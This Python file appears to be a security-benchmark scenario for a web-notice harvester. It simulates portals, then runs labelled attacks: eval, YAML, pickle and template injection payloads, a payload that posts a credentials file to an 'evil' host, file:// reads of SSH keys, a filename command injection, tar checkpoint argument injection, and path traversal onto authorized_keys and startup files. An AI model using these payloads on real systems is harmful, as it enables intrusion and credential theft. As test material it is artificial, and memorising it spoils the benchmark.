# SPDX-License-Identifier: Apache-2.0
"""A harvester of public notices, by mechanize."""
import base64
import io
import json
import pickle
import zipfile

from attackers import Bomb, in_yaml
import stage

PAPER = """%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R
/Resources<</Font<</F1 5 0 R>>>>>>endobj
4 0 obj<</Length {}>>stream
{}
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
trailer<</Root 1 0 R>>
"""
RULES = {"__init__.py": "def roads(notice):\n"
                        "    words = notice['title'].lower().split()\n"
                        "    return 'roads' if 'road' in words else None\n"}
RULES_NEW = {
    "__init__.py": "from roadwords.words import roads\n",
    "words.py": "import importlib.resources\n\n"
                "WORDS = importlib.resources.files('roadwords').joinpath(\n"
                "    'data/words.txt').read_text().split()\n\n\n"
                "def roads(notice):\n"
                "    words = notice['title'].lower().split()\n"
                "    return 'roads' if set(words) & set(WORDS) else None\n",
    "data/words.txt": "road street bridge\n"}
POINTS = "[harvester.topics]\nroads = roadwords:roads\n"


def paper(words):
    """A PDF of one line."""
    text = f"BT /F1 12 Tf 20 100 Td ({words}) Tj ET"
    return PAPER.format(len(text), text).encode()


def packed(files):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return made.getvalue()


class MechanizeNotices(stage.Program):
    """Notices of three portals, kept by day (mechanize, html5lib, cookies)."""
    packages = ["python3-mechanize", "python3-html5lib", "python3-tenacity",
                "python3-yaml", "python3-jinja2", "poppler-utils"]

    def arrange(self):
        for portal in ("town", "county", "water"):
            self.site(portal)
        for host in ("127.0.0.2", "127.0.0.3"):
            self.sites.setdefault(host, stage.Site(self.port("files"), host))
        stage.write(self.srv / "portals.toml", "".join(
            f'[{name}]\nurl = "{self.site(name).url}"\nlist = "{where}"\n'
            + more + "\n" for name, where, more in (
                ("town", "/notices", 'user = "office"\npassword = "tower"\n'),
                ("county", "/api/notices.yaml", ""),
                ("water", "/index.pickle", ""))), 0o600)
        self.install("roadwords", "1.0.2", RULES, POINTS)

    def arrange_benign(self):
        self.install("roadwords", "1.1.0", RULES_NEW, POINTS)

    # ------------------------------------------------------------- the outside
    def opens(self):
        """The portals as they are when nobody has put up anything."""
        town = self.site("town")
        town.page("/robots.txt", "User-agent: *\nDisallow: /staff/\n")
        town.page("/login", "<form action='/session' method='post'>"
                  "<input name='user'><input name='password' type='password'>"
                  "</form>", Content_Type="text/html")
        town.page("/session", "", 302, Location="/notices",
                  Set_Cookie="session=f00; Path=/")
        for name in ("county", "water"):
            self.site(name).page("/robots.txt", "", 404)

    def lists(self, town=(), county=(), water=()):
        """What the portals' lists lead to."""
        self.opens()
        self.site("town").page("/notices", "<ul>" + "".join(
            f"<li><a class='notice' href='{path}'>x</a>" for path in town))
        self.site("county").page("/api/notices.yaml", "".join(
            f"- {{path: {json.dumps(path)}}}\n" for path in county) or "[]")
        self.site("water").page("/index.pickle", pickle.dumps(
            [self.site("water").url + path for path in water]))

    def notice(self, portal, path, title, date, files=(), more="", fee=""):
        """files: (link, ...) on the page."""
        links = "".join(f"<li><a class='attachment' href='{link}'>file</a>"
                        for link in files)
        self.site(portal).page(path, (
            f"<!doctype html><h1>{title}</h1><p>On <b class='date'>{date}</b>"
            + (f"<p>Costs <i class='fee'>{fee}</i>" if fee else "")
            + f"<p>All are heard.<ul>{links}</ul>"
            + (f"<a class='more' href='{more}'>more</a>" if more else "")
        ).encode(), Content_Type="text/html; charset=utf-8")

    def file(self, site, path, content, name=""):
        headers = ({"Content_Disposition": f'attachment; filename="{name}"'}
                   if name else {})
        self.site(site).page(path, content,
                             Content_Type="application/octet-stream",
                             **headers)

    def moved(self, path, host, content):
        """A file of the town's that another host serves."""
        target = f"http://{host}:{self.port('files')}{path}"
        self.site("town").page(path, "", 302,
                               Location=stage.urllib.parse.quote(
                                   target, ":/"))
        self.sites[host].page("/robots.txt", "", 404)
        self.sites[host].page(path, content)

    # ------------------------------------------------------------ ordinary use
    def crawl(self, *words, status=0, found="new"):
        words = [self.python, "crawl.py", *words]
        self.expect_run(words[1:], self.run(*words), status, found)

    def after(self, first, last, *topic, pack=()):
        words = [self.python, "digest.py", first, last, *topic]
        self.expect_run(words[1:], self.run(*words), made=[
            f"var/digests/{first[:4]}/{first}_{last}.html"])
        for day in pack:
            words = [self.python, "pack.py", day]
            self.expect_run(words[1:], self.run(*words), found="tar.gz")

    def train(self, day):
        self.lists([f"/notices/10{day}", f"/notices/20{day}"],
                   [f"/items/{day}/levy"], [f"/dam-{day}"])
        self.notice("town", f"/notices/10{day}", f"New road to mill {day}",
                    f"2026-05-0{day}", [
                        f"/files/10{day}/plan.pdf", f"/files/10{day}/list.txt",
                        "/files/photo.jpg"],
                    f"/notices/10{day}/hearing", "2 * 12.50")
        self.notice("town", f"/notices/10{day}/hearing", "Hearing",
                    f"2026-05-1{day}", [f"/files/hearing{day}.txt"])
        self.file("town", f"/files/10{day}/plan.pdf", paper(f"Plan {day}"))
        self.file("town", f"/files/10{day}/list.txt", f"houses: {day}\n")
        self.moved("/files/photo.jpg", f"127.0.0.{2 + day % 2}", stage.png(9))
        self.file("town", f"/files/hearing{day}.txt", "in the hall\n")
        self.notice("town", f"/notices/20{day}", "Market moves",
                    f"2026-06-2{day}", ["/dl?id=7", "/files/none.pdf"])
        self.file("town", "/dl", paper("Market"), f"market {day}.pdf")
        self.notice("county", f"/items/{day}/levy", f"Levy of 202{day}",
                    f"2025-12-0{day}", [f"/docs/levy-{day}.zip",
                                        "/docs/rates.csv"], fee="38")
        self.file("county", f"/docs/levy-{day}.zip", packed({
            "read.me.txt": b"read", f"tables/202{day}/rates.csv": b"1;2"}))
        self.file("county", "/docs/rates.csv", "a;b\n1;2\n")
        self.notice("water", f"/dam-{day}", "Dam is closed", f"2026-05-0{day}",
                    ["/paper.pdf"])
        self.file("water", "/paper.pdf", paper("Closed"), f"dam-{day}.pdf")
        self.crawl(found="town: 3 new")
        self.crawl(found="town: 0 new")
        self.after("2026-05-01", "2026-05-31", pack=[f"2026-05-0{day}"])
        # The next morning.
        self.lists([f"/notices/30{day}", "/staff/1", f"/notices/31{day}"])
        self.notice("town", f"/notices/30{day}", "Bridge is open again",
                    f"2026-07-0{day}", [f"/files/30{day}/bridge.md"])
        self.file("town", f"/files/30{day}/bridge.md", "# Bridge\n")
        self.site("town").page(f"/notices/31{day}", "", 503)
        self.crawl("--portal", "town", "--since", f"2026-0{day}-01",
                   "--depth", str(day), status=1, found="town: 1 new")
        self.after("2026-01-01", "2026-12-31", "roads",
                   pack=[f"2026-07-0{day}", f"2025-12-0{day}"])
        self.site("water").page("/index.pickle", "", 500)
        self.crawl("--portal", "water", status=1, found="water: 0 new")

    def benign(self):
        self.lists(["/notices/4711", "/amt/Straßen & Wege/2027/11",
                    "/notices/1"],
                   ["/items/2031/St. Anton/fees", "/items/b_2.html"],
                   ["/pegel/neu"])
        self.site("town").page("/amt/Straßen & Wege/2027/11", "", 404)
        self.notice("town", "/notices/4711", "Größere Brücke (St. Anton)",
                    "2027-11-21", [
                        "/files/2027/11/Plan Nr. 4 (Kopie).pdf",
                        "/files/2027/11/anhang.v2.TXT", "/dl?id=8&x=1",
                        "/files/deep/er/karte.webp"],
                    "/notices/4711/2", "3 * 99.75 + 1")
        self.file("town", "/files/2027/11/Plan Nr. 4 (Kopie).pdf",
                  paper("Plan"))
        self.file("town", "/files/2027/11/anhang.v2.TXT", "viel\n" * 90000)
        self.file("town", "/dl", b"PK", "Übersicht 2027, Teil 1.ods")
        self.moved("/files/deep/er/karte.webp", "127.0.0.3", b"RIFF" * 9)
        self.notice("town", "/notices/4711/2", "Mehr", "2027-11-22",
                    ["/files/mehr.tar.xz"], "/notices/4711/3")
        self.file("town", "/files/mehr.tar.xz", b"xz")
        self.notice("town", "/notices/4711/3", "Noch mehr", "2027-12-01")
        self.notice("town", "/notices/1", "When?", "soon")
        self.notice("county", "/items/2031/St. Anton/fees", "Fees",
                    "2031-12-31", ["/docs/fees 2031.zip", "/docs/a-b_c.docx"],
                    fee="max(1, 2.5)")
        self.file("county", "/docs/fees 2031.zip", packed({
            "a/b/c/Tabelle 1.xlsx": b"x", "index.html": b"y", "LIES.MICH": b"",
            "leer/": b""}))
        self.file("county", "/docs/a-b_c.docx", b"PK")
        self.notice("county", "/items/b_2.html", "x", "2024-02-29",
                    ["/docs/broken.pdf", "/docs/late.txt"])
        self.file("county", "/docs/broken.pdf", b"no paper")
        self.site("county").page("/docs/late.txt", "", 503)
        self.notice("water", "/pegel/neu", "Pegel", "2026-05-03",
                    ["/pegel/2026-05-03T081500.csv"])
        self.file("water", "/pegel/2026-05-03T081500.csv", "1;2")
        self.crawl("--depth", "3", status=1, found="town: 3 new")
        self.after("2027-11-01", "2031-12-31", pack=[
            "2027-11-21", "2027-11-22", "2031-12-31", "2024-02-29",
            "2026-05-03"])
        self.after("2024-01-01", "2024-12-31", "other")
        # Years later; all that is known is skipped.
        self.lists(["/notices/4711", "/notices/9000"], [], [])
        self.notice("town", "/notices/9000", "o'Brien's Road: closed!",
                    "2029-01-02", ["/files/o'brien.txt"])
        self.file("town", "/files/o'brien.txt", "closed\n")
        self.crawl("--since", "2029-01-01", "--verbose", found="town: 1 new")
        self.after("2029-01-01", "2029-01-31", pack=["2029-01-02"])
        # The session has ended: somebody takes the cookies away.
        (self.srv / "var/cookies/town.txt").unlink()
        self.crawl("--portal", "town", found="town: 0 new")
        self.site("county").page("/api/notices.yaml", "", 503)
        self.crawl("--portal", "county", status=1, found="county: 0 new")
        words = [self.python, "digest.py", "2026-05-01"]
        self.expect_run(words[1:], self.run(*words), 1, "ValueError")
        words = [self.python, "crawl.py", "--since", "soon"]
        self.expect_run(words[1:], self.run(*words), 2, "invalid")
        words = [self.python, "crawl.py", "--help"]
        self.expect_run(words[1:], self.run(*words), found="--depth")

    def health(self):
        (self.srv / "var/notices.db").unlink(missing_ok=True)
        self.lists(["/notices/101"])
        self.notice("town", "/notices/101", "New road to mill 1", "2026-05-01",
                    ["/files/101/plan.pdf", "/files/101/list.txt"])
        self.file("town", "/files/101/plan.pdf", paper("Plan 1"))
        self.file("town", "/files/101/list.txt", "houses: 1\n")
        self.crawl(found="town: 1 new")
        self.after("2026-05-01", "2026-05-31")

    # ----------------------------------------------------------------- attacks
    def harvests(self, name="", content=b"x", title="Trap", fee="",
                 link="/dl", date="2026-05-01"):
        """A notice by somebody who has got into the town's portal."""
        self.lists(["/notices/666"])
        self.notice("town", "/notices/666", title, date,
                    [link] if name or link != "/dl" else [], fee=fee)
        if name:
            self.file("town", "/dl", content, name)
        self.run(self.python, "crawl.py")
        return self.srv / "var/archive/2026/05/01/town/trap"

    def computes(self, code):
        self.harvests(fee=code.replace("&", "&amp;").replace("<", "&lt;"))

    def executes(self, code):
        text = base64.b64encode(code.encode()).decode()
        self.computes(f"exec(__import__('base64').b64decode('{text}'))")

    def archived(self):
        """All that has got into the archive, where anybody may read it."""
        return b"".join(
            path.read_bytes()
            for path in (self.srv / "var/archive").rglob("*")
            if path.is_file())

    def digests(self):
        self.run(self.python, "digest.py", "2026-05-01", "2026-05-31")
        return (self.srv / "var/digests/2026/2026-05-01_2026-05-31.html"
                ).read_text()

    def renders(self, code):
        self.harvests(title="{{ lipsum.__globals__.__builtins__." + code
                      + " }}")
        return self.digests()

    def goes_inside(self, url):
        self.harvests(link=url)
        return self.archived()

    @stage.attack("eval injection")
    def fee_runs_a_command(self):
        return self.runs_line(lambda line: self.computes(
            f"__import__('os').system({line!r})"))

    @stage.attack("ctypes")
    def fee_calls_libc(self):
        return self.runs_libc(self.computes)

    @stage.attack("fork+exec")
    def fee_forks(self):
        return self.forks(self.executes)

    @stage.attack("reverse shell")
    def fee_calls_home(self):
        return self.calls_home(self.executes)

    @stage.attack("exfiltration")
    def fee_sends_credentials(self):
        return self.steals(self.executes)

    @stage.attack("exfiltration")
    def fee_sends_the_passwords(self):
        evil = self.site("evil")
        evil.page("*", b"")
        self.executes(
            "import urllib.request\nurllib.request.urlopen("
            f"{evil.url!r}, open('portals.toml', 'rb').read(), timeout=5)")
        return evil.heard("tower")

    @stage.attack("unsafe yaml")
    def list_runs_code(self):
        def use(line):
            self.lists()
            self.site("county").page("/api/notices.yaml", in_yaml(
                f"import os; os.system({line!r})"))
            self.run(self.python, "crawl.py", "--portal", "county")
        return self.runs_line(use)

    @stage.attack("unsafe pickle")
    def index_runs_code(self):
        def use(line):
            self.lists()
            self.site("water").page("/index.pickle", pickle.dumps(
                Bomb(exec, f"import os\nos.system({line!r})")))
            self.run(self.python, "crawl.py")
        return self.runs_line(use)

    @stage.attack("template injection")
    def title_reads_a_password(self):
        return self.is_told(self.renders(
            f"open('{self.home}/.netrc').read()"))

    @stage.attack("template injection")
    def title_runs_a_command(self):
        return self.runs_line(lambda line: self.renders(
            f"__import__('os').popen('{line}').read()"))

    @stage.attack("SSRF")
    def attachment_is_inside(self):
        return self.fetches_inside(self.goes_inside)

    @stage.attack("SSRF")
    def attachment_is_redirected_inside(self):
        return self.is_redirected_inside("water", self.goes_inside)

    @stage.attack("secret disclosure")
    def attachment_is_a_private_key(self):
        self.harvests(link=f"file://{self.home}/.ssh/id_rsa")
        return self.is_told(self.archived())

    @stage.attack("source disclosure")
    def attachment_is_the_source(self):
        self.harvests(link=f"file://{self.srv}/harvester/pages.py")
        return b"HOLE" in self.archived()

    @stage.attack("secret disclosure")
    def attachment_holds_the_passwords(self):
        self.harvests(link=f"file://{self.srv}/portals.toml")
        return b"tower" in self.archived()

    @stage.attack("command injection")
    def paper_runs_a_command(self):
        self.harvests("$(id >hit).pdf", paper("x"))
        return (self.srv / "hit").exists()

    @stage.attack("argument injection")
    def pack_runs_a_checkpoint(self):
        place = self.harvests("--checkpoint=1")
        stage.write(place / "--checkpoint-action=exec=id >hit", "")
        self.run(self.python, "pack.py", "2026-05-01")
        return any(path.name == "hit" for path in self.srv.rglob("hit"))

    @stage.attack("write to code")
    def attachment_replaces_the_harvester(self):
        self.harvests("../../../../../../../harvester/topics.py", b"planted")
        return "planted" in (self.srv / "harvester/topics.py").read_text()

    @stage.attack("write to code")
    def zip_replaces_a_template(self):
        path = self.srv / "templates/digest.html"
        self.harvests("x.zip", packed({str(path): b"planted"}))
        return "planted" in path.read_text()

    @stage.attack("write to start-up file")
    def zip_replaces_the_profile(self):
        self.harvests("x.zip", packed({f"{self.home}/.profile": b"planted"}))
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("write to start-up file")
    def attachment_becomes_a_pth_file(self):
        self.harvests(f"{self.site_packages}/x.pth", b"import os")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("traversal")
    def attachment_replaces_the_keys(self):
        self.harvests(f"{self.home}/.ssh/authorized_keys", b"ssh-rsa evil")
        return (self.home / ".ssh/authorized_keys").exists()

    @stage.attack("symlink swap")
    def text_became_a_link(self):
        place = self.harvests("list.txt", b"houses")
        (place / "list.txt").unlink()
        (place / "list.txt").symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.digests())

    @stage.attack("malicious dependency")
    def roadwords_sends_credentials(self):
        return self.dependency_steals(
            "roadwords", "1.0.3", RULES, self.harvests, entry_points=POINTS)

    @stage.attack("malicious plugin")
    def another_rule_steals(self):
        return self.dependency_steals(
            "railwords", "0.1", RULES, self.harvests,
            entry_points="[harvester.topics]\nrails = railwords:roads\n")
